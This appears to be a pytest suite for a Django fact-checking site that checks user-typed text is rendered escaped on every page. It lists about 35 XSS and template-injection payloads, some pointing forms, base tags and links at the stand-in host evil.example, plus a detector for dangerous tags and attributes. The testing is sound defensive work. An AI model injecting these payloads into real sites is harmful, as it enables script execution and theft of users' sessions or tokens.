"""Words somebody typed are shown as words: no page turns them into markup."""

from __future__ import annotations

import json
import re
from html import escape
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
from django.test import Client

from claims.models import Article, ReferenceDocument, Source
from claims.services import library, publishing, queueing, reviewing
from claims.services.evidence import EvidenceData, attach
from tests.conftest import person
from tests.factories import make_article, make_claim

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus '",
    "<svg onload=alert(1)>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=csrfmiddlewaretoken></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div hx-get=//evil.example/ hx-trigger=load>x</div>",
    "<div data-hx-on:load=alert(1) hx-on::load=alert(1)>x</div>",
    "<div _='on load call alert(1)' x-data='alert(1)'>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input id=csrfmiddlewaretoken name=attributes>",
    "{{ 7|add:7 }}{% load x %}{# hidden #}",
    "{{constructor.constructor('alert(1)')()}}",
    "{0.__class__} %(secret)s ${7*7} #{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028\u2029 *alert(1)*",
]
EVIL = "evil.example"
EVENTS = re.compile(r"^(on|hx-on|data-hx-on|x-|@|_$)")


class Reading(HTMLParser):
    """A page as a browser would read it: tags, their attributes, and text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data):
        self.text.append(data)


def faults(page: str) -> list[str]:
    """What a page must not hold, whatever was typed."""
    found = []
    for tag, attrs in Reading(page).tags:
        if tag in {"iframe", "object", "embed", "base", "math", "foreignobject"}:
            found.append(f"<{tag}>")
        ours = attrs.get("src", "").startswith(("/static/", "/admin/jsi18n/"))
        inert = attrs.get("type") in {"application/ld+json", "application/json"}
        if tag == "script" and not ours and not inert:
            found.append(f"<script {attrs}>")
        for name, value in attrs.items():
            link = name in {"href", "src", "action", "formaction", "hx-get", "hx-post"}
            scheme = value.strip().lower().split(":")[0]
            if EVENTS.match(name) or "alert(" in name:
                found.append(f"{tag} {name}={value}")
            if link and scheme in {"javascript", "data", "vbscript"} and tag != "link":
                found.append(f"{tag} {name}={value}")
            if link and urlsplit(urljoin("http://desk/", value)).hostname == EVIL:
                found.append(f"{tag} {name}={value}")
    return found


def world(words: str, people) -> dict[str, object]:
    """One article, claim, evidence, review, verdict and document that say `words`."""
    author, editor = people
    text = f"{words}\n\nThe port said at least 4,200 containers were lost. {words}"
    article = make_article(text, title=words[:300], author=words, publisher=words)
    claim = make_claim(
        article,
        statement=f"At least 4,200. {words}",
        readback=words,
        claimant=words,
        thing=words,
        reasons=[words],
        ambiguities=[words],
    )
    queueing.take(claim, actor=author)
    data = EvidenceData(
        quote=f"{words} They list 4,100 containers. {words}",
        url=f"https://source.example/?q={_as_typed(escape(words))}"[:500],
        title=words,
        publisher=words,
        note=words,
    )
    evidence, _ = attach(claim, data, actor=author)
    review = reviewing.ReviewData(
        rating="supported",
        rationale=words,
        evidence=[evidence.pk],
        sources_reason=words,
    )
    reviewing.submit_review(claim, review, actor=author)
    reviewing.decide(claim, actor=editor, note=words)
    publishing.publish(claim, actor=editor)
    set_aside = make_claim(make_article(f"{text} 2", title=words))
    reviewing.dismiss(set_aside, actor=author, reason=words)
    document, _ = library.add_reference(
        library.ReferenceData(
            text=f"{words} 12 tugs.", title=words, publisher=words, licence=words
        ),
        actor=author,
    )
    return {
        "article": article,
        "claim": claim,
        "evidence": evidence,
        "set_aside": set_aside,
        "document": document,
    }


def pages(made) -> list[str]:
    claim, article, evidence = made["claim"].pk, made["article"].pk, made["evidence"].pk
    review, verdict = made["claim"].reviews.get().pk, made["claim"].verdicts.get().pk
    publication = made["claim"].publications.get().pk
    admin = "/admin/claims"
    return [
        "/",
        "/articles/",
        f"/articles/{article}/",
        f"/articles/{article}/live/",
        "/claims/",
        f"/claims/{claim}/",
        f"/claims/{made['set_aside'].pk}/",
        f"/evidence/{evidence}/snapshot/",
        "/queue/review/",
        "/queue/sign-off/",
        "/library/",
        f"/library/{made['document'].pk}/",
        "/jobs/",
        "/published/",
        f"/c/{claim}/",
        "/admin/",
        *(
            f"{admin}/{model}/"
            for model in (
                "article",
                "claim",
                "evidence",
                "source",
                "snapshot",
                "sourcejob",
                "review",
                "verdict",
                "publication",
                "statuschange",
                "referencedocument",
                "dismissednumber",
            )
        ),
        f"{admin}/article/{article}/change/",
        f"{admin}/article/{article}/history/",
        f"{admin}/claim/{claim}/change/",
        f"{admin}/evidence/{evidence}/change/",
        f"{admin}/evidence/add/?claim={claim}",
        f"{admin}/source/{made['evidence'].source_id}/change/",
        f"{admin}/snapshot/{made['evidence'].source.snapshot_id}/change/",
        f"{admin}/review/{review}/change/",
        f"{admin}/verdict/{verdict}/change/",
        f"{admin}/publication/{publication}/change/",
        f"{admin}/referencedocument/{made['document'].pk}/change/",
    ]


@pytest.fixture
def people_at_work(db):
    return person("ada", "reviewer", is_staff=True), person(
        "eve", "editor", is_staff=True
    )


@pytest.fixture
def client_of_eve(people_at_work):
    client = Client()
    client.force_login(people_at_work[1])
    return client


def _as_typed(words: str) -> str:
    """What an address may hold of the words."""
    return "".join(c for c in words if c.isprintable() and c not in " \\")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_words_are_shown_as_words_on_every_page(payload, people_at_work, client_of_eve):
    made = world(payload, people_at_work)
    wrong = {}
    for page in pages(made):
        response = client_of_eve.get(page)
        assert response.status_code == 200, page
        if found := faults(response.content.decode()):
            wrong[page] = found
    assert wrong == {}
    check_document(made["claim"], payload)


def check_document(claim, payload: str) -> None:
    """The ClaimReview on the page is the stored one and cannot end its script."""
    page = Client().get(f"/c/{claim.pk}/").content.decode()
    (script,) = re.findall(
        r'<script[^>]*type="application/ld\+json"[^>]*>(.*?)</script>', page, re.S
    )
    assert not set("<>&") & set(script)
    stored = claim.publications.get().document
    assert json.loads(script) == stored
    assert json.loads(Client().get(f"/c/{claim.pk}/claimreview.json").content) == stored
    assert payload in stored["claimReviewed"]


def test_the_words_themselves_arrive_unchanged(people_at_work, client_of_eve):
    words = "<em>5 &amp; 6</em> \"quoted\" 'too'"
    made = world(words, people_at_work)
    claim = made["claim"]
    for page in (
        f"/c/{claim.pk}/",
        f"/claims/{claim.pk}/",
        f"/admin/claims/claim/{claim.pk}/change/",
        f"/admin/claims/article/{made['article'].pk}/change/",
    ):
        read = Reading(client_of_eve.get(page).content.decode())
        shown = "".join(read.text) + "".join(
            value for _, attrs in read.tags for value in attrs.values()
        )
        assert words in shown, page


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "//evil.example/",
        "file:///x",
    ],
)
def test_an_address_that_got_in_leads_nowhere(address, people_at_work, client_of_eve):
    """Even a row written past the services is not turned into a link."""
    made = world("plain words", people_at_work)
    Source.objects.update(url=address)
    Article.objects.update(url=address)
    ReferenceDocument.objects.update(url=address)
    wrong = {}
    for page in pages(made):
        read = Reading(client_of_eve.get(page).content.decode())
        links = {attrs.get("href") for tag, attrs in read.tags if tag == "a"}
        if address in links:
            wrong[page] = address
    assert wrong == {}


def test_there_are_enough_payloads_and_the_reader_sees_each_bare_one():
    assert len(PAYLOADS) >= 25
    seen = [payload for payload in PAYLOADS if faults(f'<p title="">{payload}</p>')]
    assert len(seen) >= 18
